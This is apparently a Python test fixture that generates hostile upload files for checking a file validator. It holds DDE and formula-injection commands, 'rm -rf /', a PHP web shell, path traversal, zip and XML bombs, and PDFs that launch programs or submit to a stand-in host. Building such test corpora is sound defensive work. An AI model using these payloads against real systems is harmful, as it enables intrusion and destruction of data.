"""A directory of hostile uploads, made on the spot: what an applicant, or somebody posing as one, might bring."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable
from typing import NamedTuple

from tests.formats.forged import (
    ACTING,
    BOOK,
    CATALOGUE,
    EMPTY_ZIP,
    ENABLED,
    MEGABYTE,
    OFD,
    PAGES,
    SCRIPT,
    WORD,
    archive,
    crowded,
    doubled,
    jpeg,
    locked,
    lying,
    packed,
    pdf,
    png,
)

FIELD = (
    b"<w:document><w:r><w:instrText xml:space='preserve'> DDEAUTO cmd.exe</w:instrText></w:r></w:document>"
)
LINK = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
FETCHING = b"<R><Relationship Type='http://x/connections' Target='connections.xml'/></R>"


class Hostile(NamedTuple):
    """One hostile file: its name, what makes it hostile, its content or, where that is large, what makes it."""

    name: str
    why: str
    made: bytes | Callable[[], bytes]

    @property
    def content(self) -> bytes:
        """Its bytes; the large ones are made when a test asks, not when the tests are collected."""
        return self.made if isinstance(self.made, bytes) else self.made()


def _pdfs() -> list[Hostile]:
    script = pdf(ACTING, PAGES, SCRIPT)
    locker = b"/Root 1 0 R/Encrypt<</Filter/Standard/V 2/R 3>>"
    return [
        Hostile("a.pdf", "runs JavaScript", script),
        Hostile(
            "a.pdf", "hides JavaScript in an escaped name", script.replace(b"/JavaScript", b"/J#61vaScr#69pt")
        ),
        Hostile(
            "a.pdf",
            "hides JavaScript in packed objects",
            pdf(CATALOGUE % b"", PAGES, packed(b"3 0 " + SCRIPT)),
        ),
        Hostile(
            "a.pdf",
            "hides packed objects behind an escaped name",
            pdf(CATALOGUE % b"", PAGES, packed(b"3 0 " + SCRIPT).replace(b"/ObjStm", b"/Obj#53tm")),
        ),
        Hostile(
            "a.pdf",
            "hides its filter behind an escaped name",
            pdf(CATALOGUE % b"", PAGES, packed(b"3 0 " + SCRIPT).replace(b"/Filter", b"/Fil#74er")),
        ),
        Hostile(
            "a.pdf",
            "packs objects with an unusual filter",
            pdf(
                CATALOGUE % b"", PAGES, packed(b"").replace(b"/FlateDecode", b"[/ASCIIHexDecode/FlateDecode]")
            ),
        ),
        Hostile(
            "a.pdf",
            "packs objects with a predictor",
            pdf(CATALOGUE % b"", PAGES, packed(b"3 0 ", b"/DecodeParms<<>>")),
        ),
        Hostile("a.pdf", "names two filters", pdf(CATALOGUE % b"", packed(b"3 0 ", b"/Filter/LZWDecode"))),
        Hostile(
            "a.pdf",
            "unpacks to 300 MB",
            lambda: pdf(CATALOGUE % b"", PAGES, packed(b"\0" * (300 * MEGABYTE))),
        ),
        Hostile("a.pdf", "packs rubbish", pdf(CATALOGUE % b"", PAGES, packed(b"", shown=b"rubbish"))),
        Hostile("a.pdf", "starts a program", pdf(ACTING, PAGES, b"<</S/Launch/F(cmd.exe)>>")),
        Hostile("a.pdf", "sends itself away", pdf(ACTING, PAGES, b"<</S/SubmitForm/F(http://x.example)>>")),
        Hostile("a.pdf", "needs a password", pdf(CATALOGUE % b"", PAGES, trailer=locker)),
        Hostile("a.pdf", "is a program first", pdf(CATALOGUE % b"", PAGES, before=b"MZ\0\0" + b"\0" * 60)),
        Hostile(
            "a.pdf", "has a page of web before it", pdf(CATALOGUE % b"", before=b"<html><script>1</script>\n")
        ),
        Hostile("a.pdf", "is a web page after its first line", b"%PDF-1.7\n<script>alert(1)</script>\n%%EOF"),
        Hostile(
            "a.pdf", "is an archive at its end", pdf(CATALOGUE % b"", PAGES, after=archive({"a.exe": b"MZ"}))
        ),
        Hostile(
            "a.pdf",
            "is an archive whose comment is the end of the PDF",
            pdf(CATALOGUE % b"", PAGES).replace(b"trailer", EMPTY_ZIP[:20] + b"\x00\x00trailer"),
        ),
        Hostile("a.pdf", "is all escapes", lambda: pdf(CATALOGUE % b"", PAGES, b"#41" * 6 * MEGABYTE)),
        Hostile(
            "a.pdf",
            "begins streams without end",
            lambda: pdf(CATALOGUE % b"", b"stream\n" * 2 * MEGABYTE, packed(b"")),
        ),
        Hostile(
            "a.pdf",
            "packs objects without end",
            lambda: pdf(CATALOGUE % b"", *[b"<</Type/ObjStm>>stream\n"] * 300_000),
        ),
        Hostile(
            "a.pdf",
            "opens filters without end",
            lambda: pdf(CATALOGUE % b"", packed(b"", b"/Filter[" * MEGABYTE)),
        ),
        Hostile("a.pdf", "is cut off", pdf(CATALOGUE % b"", PAGES)[:60]),
    ]


def _archives() -> list[Hostile]:
    relation = b"<R><Relationship Type='http://x/%s' Target='%s' TargetMode='%s'/></R>"
    template = relation % (b"attached&#84;emplate", b"http://x.example/t", b"External")
    macro = relation % (b"vbaProject", b"harmless.bin", b"Internal")
    chunk = relation % (b"aFChunk", b"page.mht", b"Internal")
    link = relation % (b"hyperlink", b" JavaScript:alert(1)", b"External")
    share = relation % (b"image", b"\\\\x.example\\a", b"External")
    laughs = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><workbook>&b;</workbook>'
    return [
        Hostile("a.docm", "has macros and says so", archive({**WORD, "word/vbaProject.bin": b"\xd0\xcf"})),
        Hostile("a.docx", "has macros", archive({**WORD, "word/vbaProject.bin": b"\xd0\xcf"})),
        Hostile(
            "a.docx",
            "is a document with macros renamed",
            archive({**WORD, "[Content_Types].xml": ENABLED}),
        ),
        Hostile("a.xlsx", "has macro sheets", archive({**BOOK, "xl/macrosheets/sheet1.xml": b"<x/>"})),
        Hostile("a.xlsx", "has controls", archive({**BOOK, "xl/activeX/activeX1.bin": b"\0"})),
        Hostile(
            "a.docx", "has macros by another name", archive({**WORD, "word/_rels/document.xml.rels": macro})
        ),
        Hostile("a.docx", "embeds a web page", archive({**WORD, "word/_rels/document.xml.rels": chunk})),
        Hostile("a.docx", "has a link that runs", archive({**WORD, "word/_rels/document.xml.rels": link})),
        Hostile(
            "a.docx", "asks a stranger's server", archive({**WORD, "word/_rels/document.xml.rels": share})
        ),
        Hostile(
            "a.docx", "has a broken list", archive({**WORD, "word/_rels/document.xml.rels": b"<" * 9000})
        ),
        Hostile(
            "a.docx", "has a list without end", lambda: archive({**WORD, "_rels/.rels": b"<a/>" * MEGABYTE})
        ),
        Hostile("a.docx", "has an embedded program", archive({**WORD, "word/embeddings/a.exe": b"MZ"})),
        Hostile(
            "a.docx",
            "loads a template from outside",
            archive({**WORD, "word/_rels/settings.xml.rels": template}),
        ),
        Hostile("a.docx", "starts a program from a field", archive({**WORD, "word/document.xml": FIELD})),
        Hostile("a.xlsx", "starts a program from a link", archive({**BOOK, "xl/externalLinks/e1.xml": LINK})),
        Hostile("a.xlsx", "fetches from a server", archive({**BOOK, "xl/_rels/workbook.xml.rels": FETCHING})),
        Hostile("a.docx", "holds an archive", archive({**WORD, "word/media/a.zip": EMPTY_ZIP})),
        Hostile("a.docx", "holds a web archive", archive({**WORD, "word/afchunk.mht": b"<html>"})),
        Hostile("a.xlsx", "holds a billion laughs", archive({**BOOK, "xl/sharedStrings.xml": laughs})),
        Hostile(
            "a.xlsx", "hides them in UTF-16", archive({**BOOK, "xl/s.xml": laughs.decode().encode("utf-16")})
        ),
        Hostile("a.xlsx", "is a zip bomb", lambda: archive({**BOOK, "xl/b.xml": b"\0" * (150 * MEGABYTE)})),
        Hostile(
            "a.xlsx",
            "is many small bombs",
            lambda: archive({**BOOK, **{f"xl/{n}.xml": b"\0" * MEGABYTE for n in range(250)}}),
        ),
        Hostile("a.xlsx", "lies about its size", lying),
        Hostile("a.xlsx", "has 8,000 parts", crowded),
        Hostile("a.xlsx", "holds one part twice", doubled()),
        Hostile("a.docx", "climbs out of its folder", archive({**WORD, "../../etc/passwd": b"x"})),
        Hostile("a.docx", "climbs out the Windows way", archive({**WORD, "..\\..\\x.bat": b"x"})),
        Hostile("a.docx", "is locked", locked()),
        Hostile("a.docx", "is packed in an unusual way", archive(WORD, zipfile.ZIP_BZIP2)),
        Hostile("a.docx", "is cut off", archive(WORD)[:80]),
        Hostile("a.docx", "is a program first", b"MZ\0\0" + b"\0" * 60 + archive(WORD)),
        Hostile("a.ofd", "carries a script", archive({**OFD, "Doc_0/Scripts/a.js": b"x"})),
        Hostile("a.zip", "is only an archive", archive({"a.txt": b"x"})),
        Hostile("a.docx", "is only an archive with a document's name", archive({"a.txt": b"x"})),
        Hostile(
            "a.jar",
            "is a program in Java",
            archive({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe"}),
        ),
    ]


def _pictures() -> list[Hostile]:
    return [
        Hostile("a.png", "has 10,000 million pixels", png(100_000, 100_000)),
        Hostile("a.jpg", "has 4,000 million pixels", jpeg(65_500, 65_500)),
        Hostile("a.png", "is a line of 50,000 pixels", png(50_000, 1)),
        Hostile("a.png", "packs a note of 50 MB", png(note=b"zTXt")),
        Hostile("a.png", "packs a colour profile of 50 MB", png(note=b"iCCP")),
        Hostile("a.png", "hides a program behind it", png(after=b"MZ\0\0program")),
        Hostile("a.png", "is also a web page", png(comment=b"<script>alert(1)</script>")),
        Hostile("a.jpg", "is also a web page", jpeg(comment=b"<svg onload=alert(1)>")),
        Hostile("a.png", "is also an archive", png(comment=EMPTY_ZIP[:20] + b"\x14\0")),
        Hostile(
            "a.png",
            "is all blocks",
            lambda: png()[:33] + struct.pack(">I4sI", 0, b"tEXt", 0x9642C585) * MEGABYTE,
        ),
        Hostile("a.jpg", "is all marks", lambda: jpeg()[:20] + b"\xff\xe0\x00\x02" * 4 * MEGABYTE),
        Hostile("a.png", "has a wrong sum", png().replace(b"IHDR", b"IHDR")[:-6] + b"xxxxxx"),
        Hostile("a.png", "is cut off", png()[:40]),
        Hostile("a.jpg", "is cut off", jpeg()[:40]),
        Hostile("a.png", "has no size", b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 0) + b"IEND\xaeB`\x82"),
        Hostile("a.jpg", "has no size", b"\xff\xd8\xff\xd9"),
        Hostile(
            "a.svg",
            "is a drawing that runs a script",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        ),
        Hostile("a.webp", "is a WebP", b"RIFF\x24\0\0\0WEBPVP8 "),
        Hostile("a.gif", "is no picture taken here", b"GIF89a" + b"\0" * 20),
        Hostile("a.png", "is a GIF", b"GIF89a" + b"\0" * 20),
        Hostile("a.jpg", "is a phone's HEIC", b"\0\0\0\x18ftypheic" + b"\0" * 20),
    ]


def _others() -> list[Hostile]:
    return [
        Hostile("a.exe", "is a Windows program", b"MZ\x90\0" + b"\0" * 60),
        Hostile("a.pdf", "is a Windows program called PDF", b"MZ\x90\0" + b"\0" * 60),
        Hostile("a.txt", "is a Linux program", b"\x7fELF" + b"\0" * 60),
        Hostile("a.txt", "is a script", b"#!/bin/sh\nrm -rf /\n"),
        Hostile("a.bat", "is a batch file", b"@echo off\r\ndel /q *\r\n"),
        Hostile("a.csv", "runs a command", "姓名\n=cmd|' /C calc'!A0\n".encode()),
        Hostile("a.csv", "runs a command by another sign", b"a,b\n1,+cmd|'/C calc'!A0\n"),
        Hostile("a.html", "is a web page", b"<!DOCTYPE html><script>alert(1)</script>"),
        Hostile("a.txt", "is a web page called text", b"\n\n <HTML><body onload=alert(1)>"),
        Hostile("a.txt", "is a web page in UTF-16", "<script>alert(1)</script>".encode("utf-16")),
        Hostile("a.txt", "is a page of PHP", b"<?php system($_GET['c']);"),
        Hostile("a.txt", "is binary", bytes(range(256)) * 8),
        Hostile("a.doc", "is an old Office file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 60),
        Hostile("a.docx", "is an encrypted Office file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 60),
        Hostile("a.rtf", "is an RTF document", b"{\\rtf1 {\\object\\objautlink}}"),
        Hostile("a.txt", "is PostScript", b"%!PS\n(/etc/passwd) run"),
        Hostile("a.rar", "is another archive", b"Rar!\x1a\x07\0" + b"\0" * 20),
        Hostile("a.txt", "is a shortcut", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60),
        Hostile("a.tar", "is a tape archive", b"\0" * 257 + b"ustar\0" + b"\0" * 300),
        Hostile("a.pdf", "is empty", b""),
        Hostile("a.txt", "is nothing but blanks", b"  \n\n"),
        Hostile("a.pdf", "is too large", lambda: b"%PDF-1.7\n" + b"0" * (21 * MEGABYTE)),
        Hostile("plan.pdf", "is a picture called PDF", png()),
        Hostile("plan.png", "is a JPEG called PNG", jpeg()),
        Hostile("plan.docx", "is a workbook called document", archive(BOOK)),
        Hostile("plan", "has no ending", png()),
        Hostile("plan.png.exe", "is a picture that will be started", png()),
        Hostile("plan\u202egnp.exe", "reads backwards", png()),
    ]


KINDS: tuple[Callable[[], list[Hostile]], ...] = (_pdfs, _archives, _pictures, _others)


def directory() -> list[Hostile]:
    """All of them."""
    return [file for kind in KINDS for file in kind()]
